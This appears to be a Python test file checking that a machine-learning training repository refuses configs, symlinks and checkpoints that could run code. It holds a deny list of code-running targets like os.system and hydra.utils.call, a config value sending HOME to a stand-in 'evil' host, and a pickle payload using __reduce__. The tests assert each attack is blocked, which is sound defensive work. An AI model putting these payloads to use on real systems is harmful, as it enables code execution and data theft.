"""training/trust.py: nothing that a run's folder holds is run. The tests are attacks, and use that must still work."""

import pickle
from dataclasses import asdict

import pytest
import torch

from tests.configs import composed
from training.checkpoint import read_checkpoint
from training.config import ConfigError, checked
from training.trust import check_config, check_links

REFUSED_TARGETS = [
    "os.system",
    "subprocess.Popen",
    "builtins.exec",
    "torch.load",
    "torch.hub.load",
    "torch.hub.load_state_dict_from_url",
    "data.image_folder.os.system",  # reached by a path through this repository
    "data.array_dataset.np.load",
    "data.images.decoding.Image.open",
    "torch.nn.functional.torch.load",
    "torchvision.datasets.mnist.shutil.rmtree",
    "torchvision.datasets.utils.download_and_extract_archive",  # writes anywhere
    "torchvision.datasets.LSUN",  # unpickles a file beside its data
    "torchvision.models.feature_extraction.create_feature_extractor",  # runs code that it generates
    "torch.nn.Module.apply",
    "data.fashion.FashionMini.__init__.__globals__",
    "data.errors.DataError.__class__",
    "data",
    "hydra.utils.call",
    "functools.partial",
    "training.launch.SweepStart",
    "training.files.write_whole",
    "torch.nn.functional.boolean_dispatch",  # calls any function
    "torch.nn.functional.handle_torch_function",
    "this_module_would_run_code_when_it_is_imported.Network",
    "database.Network",  # begins as data does
    "",
    ["os.system"],
]
ALLOWED_TARGETS = [
    "data.fashion.FashionMini",
    "models.linear.linear",
    "torch.nn.CrossEntropyLoss",
    "torch.nn.functional.cross_entropy",
    "torch.nn.functional.mse_loss",
    "torch.nn.modules.linear.Linear",
    "torch.optim.SGD",
    "torchvision.datasets.FakeData",
    "torchvision.models.resnet18",
    "torchvision.models.get_model",
    "torchvision.transforms.v2.RandomCrop",
]


@pytest.mark.parametrize("target", REFUSED_TARGETS, ids=str)
@pytest.mark.parametrize("nest", [lambda it: {"data": it}, lambda it: {"model": {"a": [{"b": {"c": [it]}}]}}])
def test_a_target_from_elsewhere_is_refused_however_deep_it_lies(target, nest):
    with pytest.raises(ConfigError, match=r"_target_=.* could run any code; if you trust it, add --trust"):
        check_config(nest({"_target_": target, "_partial_": True}), "a run")


@pytest.mark.parametrize("target", ALLOWED_TARGETS)
def test_what_the_repository_and_its_libraries_define_is_allowed(target):
    check_config({"model": {"_target_": target, "width": 3, "names": ["a", None, 0.5]}}, "a run")


def test_timms_networks_are_allowed_and_not_what_loads_them():
    pytest.importorskip("timm")
    check_config({"_target_": "timm.models.resnet.ResNet"}, "a run")
    for target in ("timm.models.load_checkpoint", "timm.create_model"):  # models/from_timm.py checks timm's version
        with pytest.raises(ConfigError, match="it could run any code"):
            check_config({"_target_": target}, "a run")


def test_the_settings_that_ship_with_the_repository_are_allowed():
    for overrides in ([], ["schedule=one_cycle", "task=regression"], ["model=resnet18", "optim=adamw"]):
        check_config(asdict(checked(composed(*overrides))), "a run")


def test_a_trusted_module_is_allowed_but_not_what_it_imports():
    check_config({"_target_": "fractions.Fraction"}, "a run", ["fractions"])
    check_config({"data": {"url": "${oc.env:MINE}"}}, "a run", ["data.url"])
    with pytest.raises(
        ConfigError, match=r"fractions\.sys\.exit is not in this repository's data/ .* add --trust fractions\.sys"
    ):
        check_config({"_target_": "fractions.sys.exit"}, "a run", ["fractions"])
    with pytest.raises(
        ConfigError, match=r"^a run: data\._target_=no_such\.data\.Flowers is not .* add --trust no_such\.data$"
    ):
        check_config({"data": {"_target_": "no_such.data.Flowers"}}, "a run")


@pytest.mark.parametrize(
    "config",
    [
        {"data": {"url": "http://evil/${oc.env:HOME}"}},
        {"data": {"a": "\\${oc.env:HOME}"}},  # escaped: the second time that it is resolved it would be read
        {"data": ["x", "${data.a}{oc.env:HOME}"]},
        {"data": {"trust_remote_code": True}},
        {"model": {"checkpoint_path": "weights.pth"}},
        {"model": {"pretrained_cfg": {"file": "weights.pth"}}},
        {"data": {"root": torch.zeros(1)}},
        {"model": {"_target_": "models.linear.linear", "_args_": [2, 3]}},
        {"data": {"_target_": "torchvision.datasets.FakeData", "download": True}},
        {"callbacks": {"wandb": {"settings": {"x_executable": "/tmp/evil"}}}},  # wandb.init would start it
    ],
    ids=str,
)
def test_values_that_read_secrets_or_code_are_refused(config):
    with pytest.raises(ConfigError, match=r"^a run: (data|model|callbacks)"):
        check_config(config, "a run")


@pytest.mark.parametrize("name", ["train.log", ".hydra/config.yaml", "evaluation", "export/model.pt2", "checkpoints"])
def test_a_link_that_leads_out_of_a_runs_folder_is_refused(tmp_path, name):
    run = tmp_path / "run"
    (run / "export").mkdir(parents=True)
    (run / ".hydra").mkdir()
    (run / "last.pt").symlink_to("step-0000001.pt")  # within the run
    check_links(run)
    (tmp_path / "victim").touch()
    (run / name).symlink_to(tmp_path / "victim")
    with pytest.raises(ConfigError, match=r"is a link to .*victim, where files would be written or removed"):
        check_links(run)
    check_links(run, trusted=[name.partition("/")[0]])


def test_a_checkpoint_that_is_a_pickle_of_code_is_not_run(tmp_path):
    class Evil:
        def __reduce__(self):
            return (tmp_path.joinpath("made").touch, ())

    torch.save({"model": Evil(), "optimizer": 1, "optimizer_class": 1, "loader": 1, "step": 1}, tmp_path / "new.pt")
    (tmp_path / "old.pt").write_bytes(pickle.dumps(Evil()))
    for name in ("new.pt", "old.pt"):
        with pytest.raises(ConfigError, match="cannot be read as a checkpoint"):
            read_checkpoint(tmp_path / name)
    assert not (tmp_path / "made").exists()


@pytest.fixture
def fork(tmp_path, monkeypatch):
    """A repository with a package of its own, `plankton_package`, and the folder of a stranger's run."""
    for name in ("plankton_package", "stranger"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "code.py").write_text(
            "import os\nfrom torch import nn\nfrom training.tasks import Task\nfrom training.trainer import Trainer\n"
            "class Net(nn.Module): ...\nclass Mine(Task): ...\nclass Step(Trainer): ...\n"
            "class Words:\n    def __getitem__(self, index): ...\n"
            "class Say:\n    def on_step(self, run): ...\n"
            "class Delete:\n    def __init__(self, path): os.remove(path)\n"
            "def delete(path): os.remove(path)\n"
        )
    (tmp_path / "stranger" / "checkpoints").mkdir()
    monkeypatch.setattr("training.trust.CONF", tmp_path / "conf")
    monkeypatch.syspath_prepend(tmp_path)


@pytest.mark.parametrize("name", ["Net", "Mine", "Words", "Step", "Say"])
def test_a_class_of_a_forks_own_package_is_allowed_if_it_is_of_a_kind_that_configs_name(fork, name):
    check_config({"mine": {"_target_": f"plankton_package.code.{name}"}}, "a run")


@pytest.mark.parametrize(
    "target", ["plankton_package.code.Delete", "plankton_package.code.delete", "stranger.code.Net"]
)
def test_other_code_of_a_fork_and_the_folder_of_a_run_are_not_trusted(fork, target):
    with pytest.raises(ConfigError, match="could run any code"):
        check_config({"model": {"_target_": target}}, "a run")
